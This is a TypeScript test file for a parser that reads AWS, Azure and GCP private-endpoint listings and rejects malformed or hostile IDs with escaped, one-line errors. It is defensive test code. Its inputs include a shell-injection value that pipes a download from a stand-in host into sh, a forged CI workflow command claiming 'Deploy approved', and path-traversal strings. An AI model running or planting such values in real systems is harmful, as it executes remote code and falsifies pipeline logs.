import { parseEndpointList, parseEndpointService } from '../../src/atlas/endpoint.js'
import { CLOUDS, type Cloud } from '../../src/common/clouds.js'
import { ResponseFormatError } from '../../src/common/errors.js'
import { CLOUD_IDS, IDS } from '../helpers/ids.js'

const AWS_ID = IDS.interfaceEndpointId
const AZURE_ID = CLOUD_IDS.azureEndpointId
const GCP_ID = CLOUD_IDS.gcpEndpointGroupName
/** The i-th well-formed AWS endpoint ID. */
const vpce = (i: number) => `vpce-${i.toString(16).padStart(17, '0')}`
const INJECTION =
  'vpce-0123456789abcdef0\n::stop-commands::x\n::error title=Deploy approved::All checks passed'

/** What parseEndpointService throws for `body` (fails the test when it throws nothing). */
function formatError(body: unknown, cloud: Cloud = CLOUDS.AWS): string {
  const text = typeof body === 'string' ? body : JSON.stringify(body)
  try {
    parseEndpointService(text, 'application/json', cloud)
  } catch (error) {
    expect(error).toBeInstanceOf(ResponseFormatError)
    const { message } = error as ResponseFormatError
    // One line, bounded, whatever the listing held: no listed text can start a log line.
    expect(message).not.toMatch(/[\n\r\u0085\u2028\u2029]/)
    expect(message.length).toBeLessThan(900)
    return message
  }
  throw new Error(`parseEndpointService accepted ${text.slice(0, 80)}`)
}

describe('parseEndpointService: what the service says of itself', () => {
  it.each([
    ['AWS', CLOUDS.AWS, { interfaceEndpoints: [vpce(1), vpce(2)] }, [vpce(1), vpce(2)]],
    ['AZURE', CLOUDS.AZURE, { privateEndpoints: [AZURE_ID] }, [AZURE_ID]],
    ['GCP', CLOUDS.GCP, { endpointGroupNames: [GCP_ID, 'atlas-psc-group-2'] }, [GCP_ID, 'atlas-psc-group-2']]
  ])('lists the IDs of a %s endpoint service in order', (_name, cloud, list, ids) => {
    const text = JSON.stringify({ id: IDS.privateLinkId, status: 'AVAILABLE', errorMessage: null, ...list })
    expect(parseEndpointService(text, null, cloud)).toEqual({
      status: 'AVAILABLE',
      errorMessage: null,
      endpointIds: ids
    })
    expect(parseEndpointList(text, null, cloud)).toEqual(ids)
  })

  it('reads an explicit empty list as no endpoints: the only way to say so', () => {
    expect(parseEndpointService('{"interfaceEndpoints":[]}', null, CLOUDS.AWS)).toEqual({
      status: undefined,
      errorMessage: null,
      endpointIds: []
    })
  })

  it.each(['INITIATING', 'AVAILABLE', 'WAITING_FOR_USER', 'FAILED', 'DELETING', 'A_NEWER_ONE'])(
    'reads the service status %s',
    status => {
      expect(
        parseEndpointService(JSON.stringify({ status, interfaceEndpoints: [] }), null, CLOUDS.AWS).status
      ).toBe(status)
    }
  )

  it("reads a status in another case or with spaces around it, and Atlas's message", () => {
    const text = JSON.stringify({
      status: ' failed\n',
      errorMessage: 'Quota exceeded',
      interfaceEndpoints: []
    })
    expect(parseEndpointService(text, null, CLOUDS.AWS)).toMatchObject({
      status: 'FAILED',
      errorMessage: 'Quota exceeded'
    })
  })

  it('reads a missing or null status as none, and an errorMessage that is not a string as none', () => {
    const text = JSON.stringify({ status: null, errorMessage: { a: 1 }, interfaceEndpoints: [] })
    expect(parseEndpointService(text, null, CLOUDS.AWS)).toMatchObject({
      status: undefined,
      errorMessage: null
    })
  })

  it.each<[string, unknown]>([
    ['a number', 3],
    ['an object', { s: 'AVAILABLE' }],
    ['a list', ['AVAILABLE']],
    ['empty', ''],
    ['markup', '<b>AVAILABLE</b>'],
    ['a line break and a command', 'AVAILABLE\n::error::x'],
    ['too long', 'A'.repeat(65)]
  ])('a service status that is %s is a ResponseFormatError', (_case, status) => {
    expect(formatError({ status, interfaceEndpoints: [] })).toContain('status is')
  })
})

describe('parseEndpointService: a listing that cannot be read is never "no endpoints"', () => {
  it.each<[string, unknown, RegExp]>([
    ['{}', {}, /has no fields at all/],
    [
      'a service without the list',
      { id: IDS.privateLinkId, status: 'AVAILABLE' },
      /no interfaceEndpoints field \(its fields: "id", "status"\)/
    ],
    ['the list null', { interfaceEndpoints: null }, /interfaceEndpoints is null, not a list/],
    ['the list an object', { interfaceEndpoints: { 0: AWS_ID } }, /interfaceEndpoints is an object/],
    ['the list a string', { interfaceEndpoints: AWS_ID }, /interfaceEndpoints is a string/],
    ['the list a number', { interfaceEndpoints: 0 }, /interfaceEndpoints is a number/],
    ['the list false', { interfaceEndpoints: false }, /interfaceEndpoints is a boolean/],
    ['numbers', { interfaceEndpoints: [1, 2, 3] }, /entry 1 is a number "1", not an ID/],
    ['objects carrying the ID', { interfaceEndpoints: [{ id: AWS_ID }] }, /entry 1 is an object/],
    [
      'objects carrying the ID field',
      { interfaceEndpoints: [{ interfaceEndpointId: AWS_ID }] },
      /entry 1 is an object/
    ],
    ['an ID then null', { interfaceEndpoints: [AWS_ID, null] }, /entry 2 is null/],
    ['a list inside the list', { interfaceEndpoints: [[AWS_ID]] }, /entry 1 is a list/],
    [
      "Azure's field",
      { privateEndpoints: [AZURE_ID] },
      /It has privateEndpoints, the list of a AZURE endpoint service: check cloud-provider/
    ],
    ["GCP's field", { endpointGroupNames: [GCP_ID] }, /It has endpointGroupNames.*check cloud-provider/],
    [
      'a paged list',
      { results: [{ interfaceEndpoints: [AWS_ID] }], totalCount: 1 },
      /A paged list \("results"\) is not the endpoint service: check base-url/
    ],
    ['a top-level array', [AWS_ID], /not an object/],
    ['a top-level empty array', [], /not an object/],
    ['null', 'null', /not an object/],
    ['__proto__ carrying the list', `{"__proto__":{"interfaceEndpoints":[]}}`, /no interfaceEndpoints field/]
  ])('%s', (_case, body, why) => {
    const message = formatError(body)
    expect(message).toMatch(why)
  })

  it('says that no endpoint was read, and why the gate does not pass', () => {
    expect(formatError({ interfaceEndpoints: null })).toContain(
      'No endpoint was read: a listing that cannot be read is never "no endpoints"'
    )
  })

  it('names at most 8 of the fields it found, escaped', () => {
    const body = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`f${i}\n::error::x`, i]))
    const message = formatError(body)
    expect(message).toContain('"f0\\n::error::x"')
    expect(message).toContain('and 4 more')
  })
})

describe('parseEndpointService: every listed ID is checked as an endpoint-id input is', () => {
  it.each<[string, Cloud, string]>([
    ['a line break and workflow commands', CLOUDS.AWS, INJECTION],
    ['".."', CLOUDS.AWS, '..'],
    ['"%2e%2e"', CLOUDS.AWS, '%2e%2e'],
    ['an empty ID', CLOUDS.AWS, ''],
    ['16 hex digits', CLOUDS.AWS, 'vpce-0123456789abcdef'],
    ['upper-case hex', CLOUDS.AWS, AWS_ID.toUpperCase()],
    ['a trailing space', CLOUDS.AWS, `${AWS_ID} `],
    ['a shell command', CLOUDS.AWS, 'vpce-1"; curl https://evil.example/x | sh; echo "'],
    ['a path', CLOUDS.AWS, `${AWS_ID}/../..`],
    ['a NEL and a command', CLOUDS.AWS, `${AWS_ID}\u0085::error::x`],
    ['a U+2028 and a command', CLOUDS.AWS, `${AWS_ID}\u2028::error::x`],
    ['an Azure ID percent-encoded (the API lists them raw)', CLOUDS.AZURE, encodeURIComponent(AZURE_ID)],
    ['an Azure name ".."', CLOUDS.AZURE, AZURE_ID.replace(/pe-atlas-1$/, '..')],
    ['an Azure ID with an upper-case subscription', CLOUDS.AZURE, AZURE_ID.replace('7c9e6679', '7C9E6679')],
    [
      'an Azure ID of another resource type',
      CLOUDS.AZURE,
      AZURE_ID.replace('privateEndpoints', 'virtualNetworks')
    ],
    ['a GCP ".."', CLOUDS.GCP, '..'],
    ['a GCP path', CLOUDS.GCP, 'projects/p/group'],
    ['a GCP name of 129 characters', CLOUDS.GCP, 'g'.repeat(129)]
  ])('a listed ID with %s stops the step before any read, shown escaped', (_case, cloud, bad) => {
    const message = formatError({ [cloud.listField]: [cloud.idExample, bad, bad] }, cloud)
    expect(message).toContain(`lists 3 entries in ${cloud.listField}, 2 of them not ${cloud.noun} IDs`)
    // Quoted and escaped (JSON string syntax, U+2028 and NEL as \u escapes), cut at 80 characters.
    const escaped = JSON.stringify(bad.slice(0, 80))
      .slice(0, -1)
      .replace(/[\u0085\u2028]/g, ch => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`)
    expect(message).toContain(`the first: ${escaped}`)
  })

  it('shows a long bad ID shortened', () => {
    const message = formatError({ interfaceEndpoints: [`vpce-${'0'.repeat(5000)}`] })
    expect(message).toContain('…')
    expect(message.length).toBeLessThan(500)
  })

  it.each<[string, Cloud, string[]]>([
    ['AWS', CLOUDS.AWS, [vpce(1), vpce(2), vpce(1)]],
    ['Azure, in another case', CLOUDS.AZURE, [AZURE_ID, AZURE_ID.replace('rg-app', 'RG-APP')]],
    ['GCP', CLOUDS.GCP, [GCP_ID, GCP_ID]]
  ])('a %s listing naming one endpoint twice stops the step', (_case, cloud, ids) => {
    expect(formatError({ [cloud.listField]: ids }, cloud)).toMatch(/more than once/)
  })

  it('accepts 50 IDs, and stops at 51, 10,000 or 90,000 with the count, before looking at the IDs', () => {
    const ids = (n: number) => Array.from({ length: n }, (_, i) => vpce(i))
    expect(
      parseEndpointService(JSON.stringify({ interfaceEndpoints: ids(50) }), null, CLOUDS.AWS).endpointIds
    ).toHaveLength(50)
    expect(formatError({ interfaceEndpoints: ids(51) })).toContain(
      'lists 51 entries in interfaceEndpoints, more than the 50'
    )
    expect(formatError({ interfaceEndpoints: ids(10_000) })).toContain('lists 10000 entries')
    const started = performance.now()
    const message = formatError({ interfaceEndpoints: Array.from({ length: 90_000 }, () => INJECTION) })
    expect(message).toContain('lists 90000 entries')
    expect(message).toContain("Name the endpoints to check in endpoint-id instead of '*'")
    expect(performance.now() - started).toBeLessThan(1000)
  })

  it('accepts what Atlas writes: Azure "resourcegroups", GCP names of letters, digits, "-", "_" and "."', () => {
    const atlasSpelling = AZURE_ID.replace('resourceGroups', 'resourcegroups')
    expect(
      parseEndpointList(JSON.stringify({ privateEndpoints: [atlasSpelling] }), null, CLOUDS.AZURE)
    ).toEqual([atlasSpelling])
    expect(parseEndpointList('{"endpointGroupNames":["Rule_1.a"]}', null, CLOUDS.GCP)).toEqual(['Rule_1.a'])
  })
})

describe('parseEndpointService: any listed text either is a plain ID or stops the step on one line', () => {
  /** Deterministic pseudo-random numbers (mulberry32), so that a failure can be replayed. */
  function seeded(seed: number): () => number {
    return () => {
      seed = (seed + 0x6d2b79f5) | 0
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296
    }
  }
  /** Pieces a hostile listing is made of: line breaks of every kind, commands, escapes, paths. */
  const PIECES = [
    '\n',
    '\r',
    '\u0085',
    '\u2028',
    '\u2029',
    '\u202e',
    '::',
    '::error::x',
    '%0A',
    '%2F',
    '%2e%2e',
    '/',
    '..',
    ' ',
    '"',
    '\\',
    'A',
    'f',
    '0',
    '-',
    '_',
    '(',
    '.',
    '\u0000',
    '😀'
  ]

  it.each([
    ['AWS', CLOUDS.AWS],
    ['AZURE', CLOUDS.AZURE],
    ['GCP', CLOUDS.GCP]
  ])('%s: 2,000 mutated IDs', (_name, cloud) => {
    const random = seeded(14)
    for (let n = 0; n < 2000; n++) {
      let id = cloud.idExample
      for (let k = 1 + Math.floor(random() * 3); k > 0; k--) {
        const at = Math.floor(random() * (id.length + 1))
        const piece = PIECES[Math.floor(random() * PIECES.length)]
        id =
          random() < 0.3
            ? `${id.slice(0, at)}${id.slice(at + 1)}`
            : `${id.slice(0, at)}${piece}${id.slice(at)}`
      }
      const text = JSON.stringify({ [cloud.listField]: [id] })
      let ids: string[]
      try {
        ids = parseEndpointService(text, null, cloud).endpointIds
      } catch (error) {
        expect(error).toBeInstanceOf(ResponseFormatError)
        // eslint-disable-next-line no-control-regex -- matching control characters is the point
        expect((error as Error).message).not.toMatch(/[\n\r\u0085\u2028\u2029\u202e\u0000]/)
        continue
      }
      // Accepted: printable ASCII of the ID alphabets only, never a dot segment.
      expect(ids).toEqual([id])
      expect(id).toMatch(/^[-\w.()/]+$/)
      expect(id.split('/')).not.toContain('..')
      expect(id.split('/')).not.toContain('.')
    }
  })
})
